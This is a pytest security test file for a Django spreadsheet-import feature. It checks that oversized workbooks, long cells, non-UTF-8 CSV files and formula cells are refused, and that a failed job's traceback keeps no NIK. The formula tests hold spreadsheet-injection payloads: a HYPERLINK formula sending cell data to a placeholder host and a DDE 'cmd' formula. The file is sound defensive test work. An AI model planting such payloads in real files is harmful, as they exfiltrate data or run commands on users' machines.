"""Hostile spreadsheets for the import, each through the upload page as a TKSK meets it: a million
rows (with data, shared strings, styled but empty, without the sheet's dimension), very long
cells, a CSV that is not UTF-8, formulas that must never reach an export unguarded; and a failed
background job whose stored traceback must not keep a NIK.

The million-row workbooks are written part by part with zipfile from a generator of `<row>` XML
(openpyxl would take minutes and gigabytes to write them); openpyxl reads them as it reads any
workbook. Their peak memory is measured in a separate process that runs the checks the upload
view runs."""

import csv
import io
import json
import os
import random
import string
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.db import connection
from django.urls import reverse
from django.utils.html import escape

from pendataan import impor
from pendataan.models import PPKS, Individu, Keluarga
from tests.matrix.impor import (
    buat_csv,
    buat_xlsx,
    keluarga,
    konfirmasi,
    laporan,
    lingkungan_impor,  # noqa: F401  (a fixture)
    masalah,
    unggah,
)
from tests.security import ENAM_BELAS
from tests.security.test_output import _berbahaya, _ekspor

ROOT = Path(__file__).resolve().parents[2]
KOLOM_K = [k.kunci for k in impor.KOLOM_KELUARGA]
KOLOM_P = [k.kunci for k in impor.KOLOM_PPKS]
JUTA = 1_000_000
BATAS_RSS_MB = 300


def _detail(token) -> str:
    return reverse("pendataan:impor-detail", args=[token])


@pytest.fixture
def tksk(world, client, lingkungan_impor):  # noqa: F811
    client.force_login(world.users["tksk_pahandut"])
    return client


# --- workbooks written part by part -------------------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_BAGIAN_TETAP = {
    "[Content_Types].xml": (
        f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_CT}.worksheet+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_CT}.sharedStrings+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        f'{_XML}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
        f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'{_XML}<workbook {_NS} xmlns:r="{_REL}"><sheets>'
        '<sheet name="Keluarga" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'{_XML}<Relationships xmlns="{_PKG}">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId3" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>"
    ),
    # Style 1 is the "Text" number format (@), as the template gives the NIK columns.
    "xl/styles.xml": (
        f'{_XML}<styleSheet {_NS}><fonts count="1"><font><sz val="11"/><name val="Calibri"/>'
        '</font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0" '
        'fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf '
        'numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="49" '
        'fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    ),
}


def _kolom_huruf(i: int) -> str:
    huruf, i = "", i + 1
    while i:
        i, sisa = divmod(i - 1, 26)
        huruf = chr(65 + sisa) + huruf
    return huruf


def tulis_xlsx(
    path: Path, baris, *, teks=(), dimensi: str | None = "A1:Q1000001", judul=KOLOM_K
) -> Path:
    """A Keluarga sheet with the template's header row, then the `<row>` elements of `baris`
    (an iterable of XML strings), the shared strings `teks`; `dimensi` None leaves out the
    sheet's <dimension>, as no spreadsheet program does."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isi in _BAGIAN_TETAP.items():
            arsip.writestr(nama, isi)
        with arsip.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            f.write(f"{_XML}<sst {_NS}>".encode())
            for t in teks:
                f.write(f"<si><t>{t}</t></si>".encode())
            f.write(b"</sst>")
        with arsip.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            dim = f'<dimension ref="{dimensi}"/>' if dimensi else ""
            kepala = "".join(
                f'<c r="{_kolom_huruf(i)}1" t="inlineStr"><is><t>{k}</t></is></c>'
                for i, k in enumerate(judul)
                if k
            )
            f.write(f'{_XML}<worksheet {_NS}>{dim}<sheetData><row r="1">{kepala}</row>'.encode())
            potong = []
            for b in baris:
                potong.append(b)
                if len(potong) == 10_000:
                    f.write("".join(potong).encode())
                    potong.clear()
            f.write("".join(potong).encode())
            f.write(b"</sheetData></worksheet>")
    return path


def _baris_isi(n=JUTA):
    # A household code in column A (rows without `r`, which the format allows and keeps small).
    return (f"<row><c><v>{i}</v></c></row>" for i in range(n))


def _baris_teks_bersama(n=JUTA, unik=500_000):
    return (f'<row><c t="s"><v>{i % unik}</v></c></row>' for i in range(n))


def _baris_kosong_berformat(n=JUTA):
    # Every fourth row numbered: a styled empty cell is all there is, yet no part compresses
    # more than the zip-bomb ratio.
    return (
        f'<row r="{i + 2}"><c s="1"/></row>' if i % 4 == 0 else '<row><c s="1"/></row>'
        for i in range(n)
    )


BERKAS_JUTA = {
    # kind: (rows, shared strings, dimension, message)
    "sejuta-baris": (_baris_isi, (), "A1:Q1000001", "lebih dari 20.000 baris data"),
    "sejuta-baris-teks-bersama": (
        _baris_teks_bersama,
        lambda: (f"K{i}" for i in range(500_000)),  # 11 MB, under the limit
        "A1:Q1000001",
        "lebih dari 20.000 baris data",
    ),
    "sejuta-baris-kosong-berformat": (
        _baris_kosong_berformat,
        (),
        "A1:A1000001",
        "lebih dari 60.000 baris, termasuk baris kosong yang diberi format",
    ),
    "sejuta-baris-tanpa-dimensi": (_baris_isi, (), None, "tidak mencatat ukurannya"),
    "teks-bersama-raksasa": (
        _baris_teks_bersama,
        lambda: (f"Nama Panjang Sekali {i}" for i in range(JUTA)),
        "A1:Q1000001",
        "Isi teks berkas .xlsx terlalu besar",
    ),
}


@pytest.fixture(scope="module")
def berkas_juta(tmp_path_factory):
    folder = tmp_path_factory.mktemp("juta")
    hasil = {}
    for jenis, (baris, teks, dimensi, _) in BERKAS_JUTA.items():
        teks = teks() if callable(teks) else teks
        path = tulis_xlsx(folder / f"{jenis}.xlsx", baris(), teks=teks, dimensi=dimensi)
        hasil[jenis] = path
    return hasil


_UKUR = """
import json, os, sys, time
import django
django.setup()
from django.core.files.uploadedfile import UploadedFile
from pathlib import Path
from pendataan import impor
path = sys.argv[1]
mulai = time.perf_counter()
pesan = None
with open(path, "rb") as f:
    uploaded = UploadedFile(f, name="data.xlsx", size=os.path.getsize(path))
    try:
        jenis = impor.periksa_berkas(uploaded)
        impor.baca_berkas(Path(path), jenis)
    except impor.BerkasDitolak as error:
        pesan = " ".join(error.messages)
with open("/proc/self/status") as f:
    puncak = next(int(b.split()[1]) for b in f if b.startswith("VmHWM:"))
print(json.dumps({
    "detik": round(time.perf_counter() - mulai, 2), "vmhwm_mb": round(puncak / 1024, 1),
    "pesan": pesan,
}))
"""

# Linux keeps a process's peak RSS across fork and exec: a child of this test process would
# report at least this process's own peak. So a small launcher starts the check and reads
# RUSAGE_CHILDREN for it; the check also reports its own VmHWM (which exec starts afresh).
_PELUNCUR = """
import json, resource, subprocess, sys
keluar = subprocess.run([sys.executable, "-c", sys.argv[1], sys.argv[2]], capture_output=True,
                        text=True)
sys.stderr.write(keluar.stderr)
hasil = json.loads(keluar.stdout.strip().splitlines()[-1]) if keluar.returncode == 0 else {}
hasil["rss_mb"] = round(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024, 1)
print(json.dumps(hasil))
sys.exit(keluar.returncode)
"""


def _ukur(path: Path) -> dict:
    """The upload's checks (name, size and content, then reading the sheets: what the view
    runs before it stores anything) in a process of their own, with its peak memory."""
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings", "PYTHONPATH": str(ROOT)}
    keluar = subprocess.run(
        [sys.executable, "-c", _PELUNCUR, _UKUR, str(path)],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert keluar.returncode == 0, keluar.stderr[-3000:]
    hasil = json.loads(keluar.stdout.strip().splitlines()[-1])
    print(f"\n{path.name}: {os.path.getsize(path):,} bytes, {hasil}")
    return hasil


@pytest.mark.parametrize("jenis", BERKAS_JUTA, ids=str)
def test_a_million_rows_are_refused_early_with_little_memory(world, tksk, berkas_juta, jenis):
    path, pesan = berkas_juta[jenis], BERKAS_JUTA[jenis][3]
    assert path.stat().st_size < impor.batas_mb() * 1024 * 1024  # within the upload limit
    with zipfile.ZipFile(path) as arsip:
        lembar = arsip.getinfo("xl/worksheets/sheet1.xml")
        assert lembar.file_size < impor.RASIO_ZIP_MAKS * lembar.compress_size  # no zip bomb
        if jenis != "teks-bersama-raksasa":
            assert arsip.getinfo("xl/sharedStrings.xml").file_size < impor.TEKS_BERSAMA_MAKS
    response, token = unggah(tksk, path.read_bytes())
    html = response.content.decode()
    assert token is None and 'data-testid="galat-berkas"' in html
    assert escape(pesan) in html, html[-2000:]
    assert not [p for p in impor.folder_impor().iterdir() if p.suffix == ".xlsx"]
    hasil = _ukur(path)
    assert pesan in hasil["pesan"]
    assert 20 < hasil["rss_mb"] < BATAS_RSS_MB and hasil["vmhwm_mb"] < BATAS_RSS_MB, hasil


def test_the_workbooks_written_here_are_read_like_any_other(tmp_path):
    """The generator writes workbooks openpyxl reads: a small one goes through whole."""
    path = tulis_xlsx(tmp_path / "kecil.xlsx", _baris_isi(5), dimensi="A1:A6")
    lembar = impor.baca_xlsx(path)["Keluarga"]
    assert [b.sel["kode_keluarga"].nilai for b in lembar.baris] == [0, 1, 2, 3, 4]
    path = tulis_xlsx(tmp_path / "kosong.xlsx", _baris_kosong_berformat(5_000), dimensi="A1")
    assert impor.baca_xlsx(path)["Keluarga"].baris == []  # the template's formatted rows pass


def test_text_piled_up_in_cells_is_capped(world, tksk, tmp_path):
    """Cells of 2,000 characters, written inline row after row (not shared): the
    text kept for one file is capped before it fills the memory."""
    # Six random texts in turn: within deflate's window, so the sheet compresses about 100:1,
    # under the zip-bomb ratio and the upload limit, yet unpacks to 65 MB.
    acak = random.Random(13)
    isi = [
        "".join(acak.choice(string.ascii_lowercase + " ") for _ in range(1990)) for _ in range(6)
    ]
    baris = (
        f'<row><c t="inlineStr"><is><t>{i:09d}{isi[i % 6]}</t></is></c>'
        f'<c t="inlineStr"><is><t>{isi[(i + 3) % 6]}{i:09d}</t></is></c></row>'
        for i in range(16_000)
    )
    path = tulis_xlsx(tmp_path / "teks.xlsx", baris)
    response, token = unggah(tksk, path.read_bytes())
    html = response.content.decode()
    assert token is None and "Isi teks lembar Keluarga terlalu besar" in html, html[-2000:]


def test_a_column_far_to_the_right_is_refused(world, tksk, tmp_path):
    """A header at column XFD would make every row 16,384 cells wide."""
    judul = [k for k in KOLOM_K if k != "pekerjaan"]
    judul += [None] * (16_383 - len(judul)) + ["pekerjaan"]
    baris = (
        f'<row r="{i}"><c r="A{i}"><v>{i}</v></c>'
        f'<c r="XFD{i}" t="inlineStr"><is><t>Petani</t></is></c></row>'
        for i in range(2, 30_002)
    )
    path = tulis_xlsx(tmp_path / "xfd.xlsx", baris, dimensi="A1:XFD30001", judul=judul)
    response, token = unggah(tksk, path.read_bytes())
    html = response.content.decode()
    assert token is None and "kolom pekerjaan ada di kolom ke-16.384" in html, html[-2000:]


# --- very long cells ----------------------------------------------------------------------------


def _ganti_teks(data: bytes, ganti: dict[str, str]) -> bytes:
    """The workbook with placeholders replaced in its XML: openpyxl cuts text at Excel's 32,767
    characters when it writes, a hostile file need not."""
    masuk, keluar = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as arsip:
        for info in masuk.infolist():
            isi = masuk.read(info)
            if info.filename.endswith(".xml"):
                for lama, baru in ganti.items():
                    isi = isi.replace(lama.encode(), baru.encode())
            arsip.writestr(info.filename, isi)
    return keluar.getvalue()


@pytest.mark.parametrize("panjang", [32_767, 100_000])
def test_a_very_long_cell_gets_its_own_message_and_is_not_kept(world, tksk, panjang):
    rows = keluarga("A", world.desa["pahandut"], jumlah=2)
    alamat = ("Jl. " + "panjang sekali " * (panjang // 15 + 1))[:panjang]
    rows[0]["alamat"], rows[1]["nama"] = "@@ALAMAT@@", "@@NAMA@@"
    ppks = [{"kode_keluarga": "A", "kategori": "FM", "tanggal_identifikasi": "2026-01-05"}]
    ppks[0]["deskripsi"] = "@@DESKRIPSI@@"
    data = _ganti_teks(
        buat_xlsx(rows, ppks),
        {"@@ALAMAT@@": alamat, "@@NAMA@@": "N" * panjang, "@@DESKRIPSI@@": "d" * panjang},
    )
    response, token = unggah(tksk, data)
    assert token, response.content.decode()[-2000:]
    pesan = f"Isi sel ini {panjang:,} karakter".replace(",", ".")
    per_baris = masalah(token)
    assert per_baris[2]["galat"]["alamat"][0].startswith(pesan)
    assert per_baris[3]["galat"]["nama"][0].startswith(pesan)
    assert len(per_baris[3]["galat"]["nama"]) == 1  # not the form's "at most 150" as well
    assert masalah(token, "PPKS")[2]["galat"]["deskripsi"][0].startswith(pesan)
    # Nothing giant in the preview kept on disk, nor on the page.
    assert len(json.dumps(laporan(token))) < 20_000
    page = tksk.get(_detail(token))
    html = page.content.decode()
    assert page.status_code == 200 and escape(pesan) in html and "N" * 100 not in html
    assert len(html) < 200_000
    konfirmasi(tksk, token)
    assert not Keluarga.objects.exists() and not PPKS.objects.exists()


def test_a_very_long_cell_in_a_csv(world, tksk):
    rows = keluarga("A", world.desa["pahandut"], jumlah=1)
    rows[0]["pekerjaan"] = "p" * 100_000
    response, token = unggah(tksk, buat_csv(rows, KOLOM_K), "data.csv")
    assert token
    assert masalah(token)[2]["galat"]["pekerjaan"][0].startswith("Isi sel ini 100.000 karakter")
    # Past the csv module's own limit: a message naming the row, not "unpaired quotes".
    rows[0]["pekerjaan"] = "p" * 200_000
    response, token = unggah(tksk, buat_csv(rows, KOLOM_K), "data.csv")
    html = response.content.decode()
    assert token is None and escape("Baris 2 berkas CSV berisi sel lebih dari 131.072") in html
    assert "p" * 1000 not in html


def test_long_or_many_unknown_headers_are_not_echoed_whole(world, tksk):
    kolom = [*KOLOM_K, "x" * 50_000, *(f"lain{i}" for i in range(30))]
    response, token = unggah(
        tksk, buat_xlsx(keluarga("A", world.desa["pahandut"], jumlah=1), kolom_keluarga=kolom)
    )
    html = tksk.get(_detail(token)).content.decode()
    assert "x" * 40 in html and "x" * 100 not in html
    assert "lain18, dan 11 kolom lain" in html and "lain19" not in html


# --- a CSV that is not UTF-8 --------------------------------------------------------------------


def test_a_windows_1252_csv_is_read_and_the_page_says_so(world, tksk):
    rows = keluarga("A", world.desa["pahandut"], jumlah=2)
    rows[0]["nama"] = "José Ñañez"
    rows[1]["nama"] = "Siti Nur’aini"  # the typographic apostrophe: byte 0x92 in Windows-1252
    data = buat_csv(rows, KOLOM_K, pemisah=";", encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    _, token = unggah(tksk, data, "data.csv")
    html = tksk.get(_detail(token)).content.decode()
    assert 'data-testid="pengodean-cp1252"' in html
    assert "Berkas dibaca sebagai Windows-1252" in html and "periksa huruf beraksen" in html.lower()
    assert escape("“José Ñañez”") in html and escape("Siti Nur’aini") in html
    konfirmasi(tksk, token)
    assert set(Individu.objects.values_list("nama", flat=True)) == {"José Ñañez", "Siti Nur’aini"}
    assert not impor.muat(token).meta["contoh_aksen"]  # the names went with the file
    # A UTF-8 file says nothing of the kind.
    rows = keluarga("B", world.desa["pahandut"], jumlah=1)
    rows[0]["nama"] = "José Utf"
    _, token = unggah(tksk, buat_csv(rows, KOLOM_K), "data.csv")
    assert "pengodean-cp1252" not in tksk.get(_detail(token)).content.decode()


def test_bytes_invalid_in_utf8_and_windows_1252_are_refused(world, tksk):
    rows = keluarga("A", world.desa["pahandut"], jumlah=1)
    data = buat_csv(rows, KOLOM_K).replace(b"Kepala", b"Kep\x81la")  # 0x81: unassigned in both
    response, token = unggah(tksk, data, "data.csv")
    html = response.content.decode()
    assert token is None and escape("Simpan sebagai “CSV UTF-8 (dipisahkan koma)”") in html


# --- formulas -----------------------------------------------------------------------------------

RUMUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "=cmd|' /C calc'!A0"]


def test_formula_cells_are_not_evaluated_and_refused(world, tksk):
    rows = keluarga("A", world.desa["pahandut"], jumlah=2)
    rows[0].update(pekerjaan=RUMUS[0], _rumus="pekerjaan")
    rows[1].update(nama=RUMUS[1], _rumus="nama")
    _, token = unggah(tksk, buat_xlsx(rows))
    per_baris = masalah(token)
    assert per_baris[2]["galat"]["pekerjaan"] == [impor.PESAN_RUMUS]
    assert per_baris[3]["galat"]["nama"] == [impor.PESAN_RUMUS]
    konfirmasi(tksk, token)
    assert not Keluarga.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_text_imported_reaches_the_export_guarded(world, tksk, client, fmt):
    """Text that looks like a formula is a name or a job like any other: imported as typed,
    and every export writes it so that no spreadsheet evaluates it."""
    rows = keluarga("A", world.desa["pahandut"], jumlah=2)
    rows[0]["pekerjaan"] = RUMUS[0]
    rows[1]["nama"] = RUMUS[1]
    if fmt == "csv":
        data, nama = buat_csv(rows, KOLOM_K), "data.csv"
    else:
        data, nama = buat_xlsx(rows), "data.xlsx"  # text cells, not formula cells
    _, token = unggah(tksk, data, nama)
    assert not masalah(token), masalah(token)
    konfirmasi(tksk, token)
    assert Individu.objects.filter(nama=RUMUS[1]).exists()
    assert Individu.objects.filter(pekerjaan=RUMUS[0]).exists()
    client.force_login(world.users["kab_palangkaraya"])
    _, body = _ekspor(client, world, fmt)
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    else:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(body))
        sel = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in sel if c.data_type == "f"]
        cells = [c.value for c in sel if isinstance(c.value, str)]
    shown = [c for c in cells if "cmd|" in c or "HYPERLINK" in c]
    assert any("cmd|" in c for c in shown), "the export did not carry the imported name"
    assert not [c for c in shown if _berbahaya(c)], shown


# --- a failed job's stored traceback ------------------------------------------------------------

NIK = "6271014107850099"


def _env():
    s = connection.settings_dict
    url = f"postgres://{s['USER']}:{s['PASSWORD'] or ''}@{s['HOST']}:{s['PORT']}/{s['NAME']}"
    return {**os.environ, "DATABASE_URL": url, "DJANGO_SETTINGS_MODULE": "tests.settings"}


@pytest.mark.django_db(transaction=True)
def test_a_failed_job_stores_no_nik(tmp_path):
    """A real worker runs a job that fails with a NIK in its error (read from a file, as the
    import reads its upload, so the job's own arguments carry none)."""
    from django_tasks_db.models import DBTaskResult

    from tests.security.tugas_impor import gagal_membaca

    berkas = tmp_path / "baris.txt"
    berkas.write_text(NIK)
    hasil = gagal_membaca.enqueue(str(berkas))
    keluar = subprocess.run(
        [sys.executable, "manage.py", "db_worker", "--batch", "--no-reload",
         "--no-startup-delay", "--interval", "0.1"],
        cwd=ROOT, env=_env(), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    hasil.refresh()
    assert hasil.status == "FAILED", keluar.stderr[-3000:]
    baris = DBTaskResult.objects.filter(pk=hasil.id).values().get()
    teks = json.dumps(baris, default=str)
    assert "already exists" in baris["traceback"] and "6271********0099" in baris["traceback"]
    assert not ENAM_BELAS.search(teks), baris["traceback"]
    assert not ENAM_BELAS.search(keluar.stdout + keluar.stderr)
